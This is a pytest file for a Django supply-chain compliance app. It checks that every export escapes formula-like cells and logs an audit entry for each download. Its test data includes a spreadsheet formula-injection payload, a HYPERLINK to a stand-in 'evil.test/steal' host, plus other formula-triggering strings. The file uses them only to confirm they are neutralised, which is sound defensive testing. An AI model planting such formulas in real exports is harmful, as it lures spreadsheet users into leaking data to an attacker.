"""Every export, on the pages and in the API: no cell a spreadsheet would run, and an audit
entry for each download.

The table below lists every export; the first test fails when a page or API operation that
looks like one (a file route, or an API operation documented without a JSON body) is not in
it, so a new export is walked the moment it exists.
"""

import csv
import datetime
import io
import re

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from openctpat.core import checkpoints
from openctpat.core.exports import FORMULA_START
from openctpat.core.models import AuditEntry
from openctpat.core.permissions import Role
from openctpat.profiles import services as profile_services
from openctpat.risk import services as risk_services
from openctpat.testing import inspections as inspection_factories
from openctpat.testing import make_org, owner_of, token_for
from openctpat.testing import partners as partner_factories
from openctpat.testing import profiles as profile_factories
from openctpat.testing import risk as risk_factories
from openctpat.testing.api import ApiClient

from .routes import api_operations, pages

EVIL = '=HYPERLINK("http://evil.test/steal","Open the report")'
PLUS, MINUS, AT = "+1 555 0100 call me", "-2+3 and more", "@SUM(A1:A9)"

TODAY = timezone.localdate()
FROM, TO = TODAY - datetime.timedelta(days=60), TODAY
LOGS = f"log={{log}}&format={{fmt}}&from={FROM}&to={TO}"
# Export -> the downloads it offers: (URL, format). Formats: csv, xlsx, pdf, file (an
# uploaded evidence file, given back as it was), json (a signed audit checkpoint).
EXPORTS = {
    "partners:export_csv": [("/partners/export.csv", "csv")],
    "partners:export_xlsx": [("/partners/export.xlsx", "xlsx")],
    "profiles:export_xlsx": [("/profiles/{profile_id}/export.xlsx", "xlsx")],
    "profiles:export_pdf": [("/profiles/{profile_id}/export.pdf", "pdf")],
    "profiles:evidence_file": [("/profiles/evidence/{document_id}/v/1/file", "file")],
    "risk:report_xlsx": [("/risk/{assessment_id}/report.xlsx", "xlsx")],
    "risk:report_pdf": [("/risk/{assessment_id}/report.pdf", "pdf")],
    "inspections:log_export": [
        (f"/inspections/exports/?{LOGS.format(log=log, fmt=fmt)}", fmt)
        for log in ("inspections", "seals")
        for fmt in ("xlsx", "pdf")
    ],
    "core:audit_head": [("/audit/checkpoint.json", "json")],
    "GET /api/v1/partners/export.csv": [("/api/v1/partners/export.csv", "csv")],
    "GET /api/v1/partners/export.xlsx": [("/api/v1/partners/export.xlsx", "xlsx")],
    "GET /api/v1/profiles/{profile_id}/export.xlsx": [
        ("/api/v1/profiles/{profile_id}/export.xlsx", "xlsx")
    ],
    "GET /api/v1/profiles/{profile_id}/export.pdf": [
        ("/api/v1/profiles/{profile_id}/export.pdf", "pdf")
    ],
    "GET /api/v1/evidence/{document_id}/versions/{number}/file": [
        ("/api/v1/evidence/{document_id}/versions/1/file", "file")
    ],
    "GET /api/v1/risk/assessments/{assessment_id}/report.xlsx": [
        ("/api/v1/risk/assessments/{assessment_id}/report.xlsx", "xlsx")
    ],
    "GET /api/v1/risk/assessments/{assessment_id}/report.pdf": [
        ("/api/v1/risk/assessments/{assessment_id}/report.pdf", "pdf")
    ],
    "GET /api/v1/inspections-log": [
        (f"/api/v1/inspections-log?start={FROM}&end={TO}&format={fmt}", fmt)
        for fmt in ("xlsx", "pdf")
    ],
    "GET /api/v1/seals-log": [
        (f"/api/v1/seals-log?start={FROM}&end={TO}&format={fmt}", fmt) for fmt in ("xlsx", "pdf")
    ],
    "GET /api/v1/audit/head": [("/api/v1/audit/head", "json")],
}
# Looks like an export but is not one.
NOT_EXPORTS = {
    # The lane page draws the same diagram inline; its text is escaped SVG, not cells.
    "GET /api/v1/risk/lanes/{lane_id}/diagram.svg",
}
FILE_ROUTE = re.compile(r"export|\.(csv|xlsx|pdf|json|svg)$|/file$|-log$|checkpoint")


def looks_like_exports(schema) -> set[str]:
    found = {name for name, route in pages() if FILE_ROUTE.search(route.rstrip("/"))}
    for method, path in api_operations(schema):
        ok = schema["paths"][path][method.lower()]["responses"].get("200", {})
        if method == "GET" and (FILE_ROUTE.search(path) or "content" not in ok):
            found.add(f"{method} {path}")
    return found


@pytest.mark.django_db
def test_the_table_lists_every_export(client):
    schema = client.get("/api/v1/openapi.json").json()
    found = looks_like_exports(schema)
    assert found - set(EXPORTS) - NOT_EXPORTS == set(), "add these exports to EXPORTS"
    known = {name for name, _route in pages()} | {f"{m} {p}" for m, p in api_operations(schema)}
    assert set(EXPORTS) - known == set(), "these exports no longer exist"


@pytest.fixture
def seeded(db, settings, tmp_path):
    """One organisation whose every exported text field starts like a formula."""
    settings.MEDIA_ROOT = tmp_path  # the audit checkpoints of this test stay here
    org = make_org(AT + " Imports")
    owner = owner_of(org)
    partner = partner_factories.make_partner(org, legal_name=EVIL, notes=PLUS, address=MINUS)
    partner_factories.make_contact(org, partner)
    profile = profile_factories.make_profile(org)
    answer = profile.answers.order_by("criterion__category", "criterion__number").first()
    document = profile_factories.make_document(org, title=MINUS)
    profile_services.update_answer(org, owner, answer, status="in_progress", narrative=EVIL)
    profile_services.link_evidence(org, owner, answer, document)
    assessment = risk_factories.make_assessment(org)
    lane = risk_factories.make_lane(org, assessment, name=EVIL)
    node = risk_factories.make_node(org, lane, name=AT)
    risk_services.create_action(org, owner, assessment, title=PLUS, node=node)
    inspection = inspection_factories.make_inspection(
        org, driver_name=EVIL, shipment_reference=PLUS
    )
    inspection_factories.make_batch(org, size=3, manufacturer=EVIL, storage_location=MINUS)
    inspection_factories.make_applied_seal(org, inspection)
    objects = {"profile_id": profile.pk, "assessment_id": assessment.pk}
    objects["document_id"] = document.pk
    return org, objects


def exports_of(response, fmt) -> list:
    """The text cells of a download (for the formats that have cells)."""
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        return [("csv", cell) for row in csv.reader(io.StringIO(text)) for cell in row]
    book = load_workbook(io.BytesIO(response.content))
    return [("xlsx", cell) for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_neutralised(where, response, fmt):
    escaped = 0
    for kind, cell in exports_of(response, fmt):
        if kind == "csv":
            assert not cell.startswith(FORMULA_START), f"{where}: CSV cell {cell!r}"
            escaped += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
            continue
        assert cell.data_type != "f", f"{where}: formula in {cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
            assert cell.data_type == "s" and cell.quotePrefix, f"{where}: {cell.coordinate}"
            escaped += 1
    assert escaped, f"{where}: none of the seeded formula-like text was exported"


def download(client, where, url, fmt):
    before = AuditEntry.objects.filter(action="export").count()
    response = client.get(url)
    assert response.status_code == 200, (where, url, response.content[:300])
    assert response["Cache-Control"] == "private, no-store", where
    assert AuditEntry.objects.filter(action="export").count() == before + 1, f"{where}: audit"
    if fmt in ("csv", "xlsx"):
        assert_neutralised(where, response, fmt)
    elif fmt == "pdf":
        assert response.content.startswith(b"%PDF"), where
    elif fmt == "json":
        assert checkpoints.parse_signed(response.content).signed, where
    else:
        assert b"".join(response.streaming_content).startswith(b"Security policy"), where


def test_every_export_is_neutralised_and_audited(seeded, login):
    org, objects = seeded
    page = login(org, Role.OWNER)
    api = ApiClient(token_for(org, Role.OWNER))
    walked = 0
    for where, downloads in EXPORTS.items():
        client = api if where.startswith("GET /api/") else page
        for url, fmt in downloads:
            download(client, where, url.format(**objects), fmt)
            walked += 1
    assert walked >= 22
    exported = AuditEntry.objects.for_org(org).filter(action="export")
    assert set(exported.values_list("actor_user_id", flat=True)) == {owner_of(org).pk}
